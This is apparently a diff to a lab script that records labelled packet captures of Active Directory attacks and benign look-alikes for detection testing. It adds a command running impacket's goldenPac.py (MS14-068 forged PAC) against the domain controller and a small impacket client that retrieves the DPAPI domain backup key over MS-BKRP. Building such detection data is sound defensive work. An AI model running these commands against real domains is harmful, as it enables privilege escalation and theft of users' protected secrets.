@@ -1,13 +1,14 @@
 # Extra scenarios for ../shared/lab/make-captures.sh, recorded into testdata/lab-extra/ by
 #   sudo ../shared/lab/make-captures.sh up
 #   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh \
-#        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost" \
+#        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
+#             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
 # on, expect, cap_end) and its accounts; the pass parameters are the main pass's.
 
-SCEN_LIST="$SCEN_LIST honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost"
+SCEN_LIST="$SCEN_LIST honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore"
 
 sc_honeytoken_ldap_query() {
   cap_begin honeytoken_ldap_query attack T1087.002 "$ATK_IP" "$HONEY_USER" \
@@ -89,5 +90,96 @@ sc_golden_ticket_ghost() {
   EXTRA_ENV=$(cc atk-golden) on atk -- kvno "cifs/$DCFQDN@$REALM" "ldap/$DCFQDN@$REALM"
   expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
   expect_none 'kerberos.msg_type==10'
+  cap_end
+}
+
+# Small impacket clients for the scenarios below (the lab's own tools live in $WORK/tools too).
+extra_tools() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/no_pac_client.py" <<'PYEOF'
+# A client that asks for a TGT without a PAC (PA-PAC-REQUEST include-pac=FALSE), as some
+# non-Windows Kerberos clients do, then asks ordinary service tickets with it.
+# usage: no_pac_client.py REALM USER PASSWORD KDC SPN...
+import sys
+from impacket.krb5 import constants
+from impacket.krb5.kerberosv5 import getKerberosTGT, getKerberosTGS
+from impacket.krb5.types import Principal
+realm, user, pw, kdc = sys.argv[1:5]
+name = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
+tgt, cipher, _, key = getKerberosTGT(name, pw, realm, '', '', None, kdc, requestPAC=False)
+for spn in sys.argv[5:]:
+    server = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
+    try:
+        getKerberosTGS(server, realm, kdc, tgt, cipher, key)
+        print('ticket for', spn)
+    except Exception as e:
+        print('no ticket for', spn, e)
+PYEOF
+  cat > "$WORK/tools/bkrp_call.py" <<'PYEOF'
+# One MS-BKRP BackuprKey call over \pipe\protected_storage.
+# usage: bkrp_call.py DOMAIN USER PASSWORD HOST retrieve|restore integrity|privacy
+import sys
+from impacket.dcerpc.v5 import transport, bkrp
+from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_INTEGRITY, RPC_C_AUTHN_LEVEL_PKT_PRIVACY
+dom, user, pw, host, action, level = sys.argv[1:7]
+t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\protected_storage]' % host)
+t.set_credentials(user, pw, dom, '', '')
+dce = t.get_dce_rpc()
+dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY if level == 'privacy' else RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
+dce.connect()
+dce.bind(bkrp.MSRPC_UUID_BKRP)
+if action == 'retrieve':
+    guid, data = bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, b'\x00' * 4
+else:
+    # A master-key backup blob's shape (version 2, 36 bytes of header) with no valid secret:
+    # the DC answers with an error, as it does for a client whose blob is stale.
+    guid, data = bkrp.BACKUPKEY_RESTORE_GUID, b'\x02\x00\x00\x00' + b'\x00' * 32
+try:
+    resp = bkrp.hBackuprKey(dce, guid, data)
+    print(action, level, 'answered', len(resp['ppDataOut']), 'bytes')
+except Exception as e:
+    print(action, level, 'refused:', e)
+dce.disconnect()
+PYEOF
+}
+
+sc_forged_pac() {
+  extra_tools
+  cap_begin forged_pac attack T1558.001 "$ATK_IP" "krbtgt/$REALM, cifs/$DCFQDN" \
+    "Forged authorization data (MS14-068, impacket goldenPac) with a phished account ($RECON_USER): its SID from SAM-R, a TGT asked without a PAC (include-pac=FALSE), then a TGS-REQ for krbtgt whose enc-authorization-data carries a PAC the attacker built (Domain Admins etc.); the patched DC does not honour it."
+  on atk 120 -- "$VPY" "$IMP/goldenPac.py" -dc-ip "$DC_IP" -target-ip "$DC_IP" "$DOMAIN/$RECON_USER:$RECON_PASS@$DCFQDN" whoami
+  expect 'kerberos.msg_type==10 && kerberos.include_pac==0'
+  expect 'kerberos.msg_type==12 && kerberos.enc_authorization_data_element'
+  cap_end
+}
+
+sc_benign_no_pac_client() {
+  extra_tools
+  cap_begin benign_no_pac_client benign none "$WS_IP" "cifs/$DCFQDN, ldap/$DCFQDN" \
+    "A client that asks its TGT without a PAC (include-pac=FALSE, as some non-Windows Kerberos stacks do) and then ordinary service tickets, with no authorization data of its own."
+  on ws 60 -- "$VPY" "$WORK/tools/no_pac_client.py" "$REALM" alice "$ALICE_PASS" "$DC_IP" "cifs/$DCFQDN" "ldap/$DCFQDN"
+  expect 'kerberos.msg_type==10 && kerberos.include_pac==0'
+  expect 'kerberos.msg_type==13' 2
+  expect_none 'kerberos.enc_authorization_data_element'
+  cap_end
+}
+
+sc_dpapi_backupkey_bkrp() {
+  extra_tools
+  cap_begin dpapi_backupkey_bkrp attack T1555.004 "$ATK_IP" "$DCFQDN (BackupKey)" \
+    "DPAPI domain backup key requested over MS-BKRP with a Domain Admin's credentials ($DA_USER): BackuprKey with the retrieve-backup-key GUID over \\\\pipe\\\\protected_storage, signed but not sealed, so the GUID is visible (impacket bkrp)."
+  on atk 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" "$DA_USER" "$DA_PASS" "$DC_IP" retrieve integrity
+  expect 'dcerpc.cn_bind_to_uuid == 3dde7c30-165d-11d1-ab8f-00805f14db40'
+  expect 'dcerpc.opnum==0 && dcerpc.pkt_type==0'
+  cap_end
+}
+
+sc_benign_bkrp_restore() {
+  extra_tools
+  cap_begin benign_bkrp_restore benign none "$WS_IP" "$DCFQDN (BackupKey)" \
+    "A workstation user's DPAPI master-key restore request (what Windows does after a password reset): BackuprKey with the restore GUID, once signed and once sealed."
+  on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore integrity
+  on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore privacy
+  expect 'dcerpc.opnum==0 && dcerpc.pkt_type==0' 2
   cap_end
 }
